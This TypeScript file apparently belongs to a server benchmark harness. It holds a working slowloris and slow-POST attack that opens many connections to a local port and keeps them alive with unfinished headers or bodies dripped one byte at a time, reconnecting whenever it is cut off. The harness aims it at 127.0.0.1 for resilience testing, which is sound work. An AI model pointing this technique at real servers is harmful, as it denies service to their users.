import { connect, type Socket } from 'node:net';
import { json } from 'node:stream/consumers';
import { setTimeout as pause } from 'node:timers/promises';
import type { SlowSockets, SlowSocketsResult } from './attack-row.ts';
import { median } from './bench-row.ts';

/**
 * Clients that hold connections: half of them never come to the end of their headers, half announce a body and send it byte by byte.
 * One that is shut out comes again at once.
 */
const byteEveryMs = 1000;
const lookEveryMs = 50;
const slowHead = 'GET /api/products HTTP/1.1\r\nHost: shop\r\nX-Slow: ';
const slowBody =
  'POST /api/auth/login HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"username":"';

// what attack-row.ts writes
const { port, sockets } = (await json(process.stdin)) as SlowSockets;
const open = new Set<Socket>();
let stopping = false;
process.once('SIGTERM', () => {
  stopping = true;
});
let opened = 0;
const openOne = (text: string) => {
  const socket = connect(port, '127.0.0.1', () => {
    open.add(socket);
    opened += 1;
    socket.write(text);
  });
  socket.on('data', () => undefined).on('error', () => undefined);
  socket.on('close', () => {
    open.delete(socket);
    if (!stopping) openOne(text);
  });
};
for (let index = 0; index < sockets; index++) openOne(index % 2 === 0 ? slowHead : slowBody);
while (open.size < sockets) await pause(lookEveryMs);
process.stdout.write('{}\n');

const dribble = setInterval(() => {
  for (const socket of open) if (socket.writable) socket.write('a');
}, byteEveryMs);
const seen: number[] = [];
for (; !stopping; await pause(lookEveryMs)) seen.push(open.size);
clearInterval(dribble);
const result: SlowSocketsResult = { opened, usual: median(seen) };
process.stdout.write(`${JSON.stringify(result)}\n`);
for (const socket of open) socket.resetAndDestroy();
